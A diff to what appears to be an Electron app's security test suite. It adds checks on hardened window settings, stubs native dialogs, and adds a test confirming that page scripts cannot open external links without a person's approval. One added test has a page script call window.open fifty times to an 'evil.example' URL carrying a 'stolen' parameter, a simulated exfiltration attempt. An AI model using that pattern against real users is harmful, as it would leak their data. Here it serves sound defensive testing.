@@ -17,10 +17,17 @@ beforeAll(async () => {
   app = await profile.launch()
   await openConsole(app.page, server)
   // What leaves the app is noted instead of starting a browser.
-  await app.electron.evaluate(({ shell }) => {
+  await app.electron.evaluate(({ dialog, shell }) => {
     const left: string[] = []
-    Object.assign(globalThis, { left })
+    const questions: string[] = []
+    Object.assign(globalThis, { left, questions, answer: Promise.resolve(0) })
     shell.openExternal = async (url) => void left.push(url)
+    // Native dialogs cannot be driven; what a person would click can be given.
+    dialog.showMessageBox = async (...given: unknown[]) => {
+      questions.push((given.at(-1) as Electron.MessageBoxOptions).message)
+      const response = await (globalThis as unknown as { answer: Promise<number> }).answer
+      return { response, checkboxChecked: false }
+    }
   })
 })
 afterAll(async () => {
@@ -30,6 +37,9 @@ afterAll(async () => {
 
 const leftForBrowser = () =>
   app.electron.evaluate(() => (globalThis as unknown as { left: string[] }).left.splice(0))
+
+const questions = () =>
+  app.electron.evaluate(() => (globalThis as unknown as { questions: string[] }).questions.splice(0))
 
 test('the page has nothing of Node', async () => {
   const seen = await app.page.evaluate(() =>
@@ -49,6 +59,11 @@ test('the page has nothing of Node', async () => {
     contextIsolation: true,
     nodeIntegration: false,
     webviewTag: false,
+    webSecurity: true,
+    allowRunningInsecureContent: false,
+    experimentalFeatures: false,
+    nodeIntegrationInSubFrames: false,
+    enableBlinkFeatures: '',
   })
 })
 
@@ -74,6 +89,7 @@ test('the page cannot navigate to another origin', async () => {
     'SMS Lead Management Dashboard',
   )
   expect(await leftForBrowser()).toEqual(['https://example.com/'])
+  expect(await questions()).toEqual(['Open example.com in your browser?'])
 })
 
 test('links go to the system browser, and only encrypted ones', async () => {
@@ -89,7 +105,22 @@ test('links go to the system browser, and only encrypted ones', async () => {
   }, server)
   expect(windows).toEqual([true, true, true, true, true])
   expect(await leftForBrowser()).toEqual(['https://example.com/help'])
+  expect(await questions()).toEqual(['Open example.com in your browser?'])
   expect(app.electron.windows()).toHaveLength(1)
+})
+
+test('a script of the page cannot carry anything out through the browser without a person’s yes', async () => {
+  await app.electron.evaluate(() => {
+    const answer = new Promise((resolve) => Object.assign(globalThis, { cancel: () => resolve(1) }))
+    Object.assign(globalThis, { answer })
+  })
+  await app.page.evaluate(() => {
+    for (let n = 0; n < 50; n++) window.open(`https://evil.example/?stolen=${n}`)
+  })
+  await app.electron.evaluate(() => (globalThis as unknown as { cancel(): void }).cancel())
+  expect(await leftForBrowser()).toEqual([])
+  // One at a time, never fifty windows with questions.
+  expect(await questions()).toEqual(['Open evil.example in your browser?'])
 })
 
 test('the policy blocks inline script, foreign script, frames and foreign requests', async () => {
